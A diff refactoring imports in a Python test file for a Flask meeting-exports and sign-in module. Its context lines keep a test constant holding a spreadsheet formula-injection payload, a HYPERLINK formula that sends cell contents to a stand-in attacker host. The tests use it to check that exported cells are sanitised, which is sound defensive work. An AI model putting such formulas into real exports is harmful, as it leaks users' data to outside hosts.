@@ -15,10 +15,10 @@ from flask.testing import FlaskClient
 from sqlalchemy import Engine, select
 
 from tests.helpers import insert_rows, response_row
+from wallboard import store
 from wallboard.config import parse_config
 from wallboard.meeting.exports import FOLLOWUP_HEADER, RESPONSE_HEADER, register, safe_cell
 from wallboard.meeting.followups import update_followup
-from wallboard.store import reads as store
 
 TZ = ZoneInfo("Europe/Copenhagen")
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik her")'
@@ -190,13 +190,13 @@ def test_safe_cell(value: object, shown: object) -> None:
 
 def test_exports_need_a_sign_in_and_a_session_does_not_open_the_api(
         engine: Engine, tmp_path: Path) -> None:
-    auth = pytest.importorskip("wallboard.accounts.auth")
-    users = pytest.importorskip("wallboard.accounts.users")
+    from wallboard import accounts
+    from wallboard.accounts import users
     from wallboard.meeting import followups_api
 
     config = parse_config({"api": {"token": "s3cret"}}, tmp_path / "config.toml")
     server = Flask(__name__)
-    auth.register(server, config, engine)
+    accounts.register(server, config, engine)
     register(server, config, engine)
     followups_api.register(server, config, engine)
     users.add_user(engine, "mette", "a long passphrase 42")
